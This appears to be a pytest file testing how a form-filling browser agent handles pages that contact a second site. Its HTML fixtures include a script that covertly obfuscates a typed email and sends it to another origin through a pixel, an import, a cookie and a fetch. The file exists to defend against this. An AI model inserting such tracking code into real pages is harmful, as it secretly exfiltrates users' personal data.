"""Other sites are asked for nothing once something was typed, but where a person lets a page."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from steadyhand.core.answer.facts import QuestionKind
from steadyhand.testing import ScriptedHuman

from .rig import YES, applied
from .site import Hostile, form, hostile

pytestmark = pytest.mark.browser
RECEIVED = "<h1>Application received</h1><p>Your reference is WD-48213.</p>"
ASKS_FIRST = """<script src="%(to)s/before.js"></script><script>
document.forms[0].onsubmit = async (e) => {
  e.preventDefault();
  await fetch("%(to)s/upload/token", { method: "POST", mode: "no-cors", body: "site=4711" });
  document.forms[0].submit();
};
</script>"""
TRACKS = """<script src="%(to)s/before.js"></script><script>
const said = () => btoa([...document.querySelector("[name=mail]").value].reverse().join(""));
document.addEventListener("focusout", () => {
  new Image().src = "%(to)s/pixel?" + said();
  import("%(to)s/" + said() + ".js").catch(() => 0);
  document.cookie = "kept=" + said();
});
document.forms[0].addEventListener("submit", () => {
  fetch("%(to)s/upload/all", { method: "POST", mode: "no-cors", keepalive: true, body: said() });
});
</script>"""
LISTED = """<label>Harbour <select name=harbour required><option value="">Choose</select></label>
<script>
let asked = false;
const ask = () => fetch("%(to)s/harbours", { mode: "no-cors" }).then(() => {
  for (const name of ["Emden", "Kiel"]) document.forms[0].harbour.add(new Option(name, name));
}, () => 0);
document.querySelector("[name=mail]").addEventListener("change", () => asked || (asked = ask()));
</script>"""


@pytest.fixture
def sites() -> Iterator[tuple[Hostile, Hostile]]:
    with hostile() as site, hostile() as other:
        site.answer = (200, RECEIVED)
        yield site, other


def about(human: ScriptedHuman, origin: str) -> list[str]:
    return [q.text for q in human.asked if q.kind is QuestionKind.YES_NO and origin in q.text]


@pytest.mark.parametrize(("allows", "status"), [(True, "submitted"), (False, "needs_human")])
async def test_a_page_that_asks_another_site_before_it_sends_is_asked_about_once(
    sites: tuple[Hostile, Hostile], tmp_path: Path, *, allows: bool, status: str
) -> None:
    site, other = sites
    site.page = form(ASKS_FIRST % {"to": other.origin})
    human = ScriptedHuman({**YES, "yes_no": allows})
    receipt = await applied(site, tmp_path, human, allow=(other.origin,))
    assert receipt.status == status, receipt.errors
    assert len(about(human, other.origin)) == 1
    assert len(site.posted) == int(allows)
    assert other.uploaded == [b"site=4711"] * int(allows)


async def test_what_measures_and_records_in_secret_gets_nothing_and_is_not_asked_about(
    sites: tuple[Hostile, Hostile], tmp_path: Path
) -> None:
    site, other = sites
    site.page = form(TRACKS % {"to": other.origin})
    human = ScriptedHuman(YES)
    receipt = await applied(site, tmp_path, human, allow=(other.origin,))
    assert receipt.status == "submitted", receipt.errors
    assert (other.asked, other.uploaded) == (["/before.js"], [])
    assert about(human, other.origin) == []


async def test_a_list_that_comes_from_another_site_is_asked_about_once(
    sites: tuple[Hostile, Hostile], tmp_path: Path
) -> None:
    site, other = sites
    site.page = form(LISTED % {"to": other.origin})
    human = ScriptedHuman({**YES, "yes_no": True, "Harbour": "Kiel"})
    receipt = await applied(site, tmp_path, human, allow=(other.origin,))
    assert receipt.status == "submitted", receipt.errors
    assert len(about(human, other.origin)) == 1
    assert site.posted[0]["harbour"] == ["Kiel"]
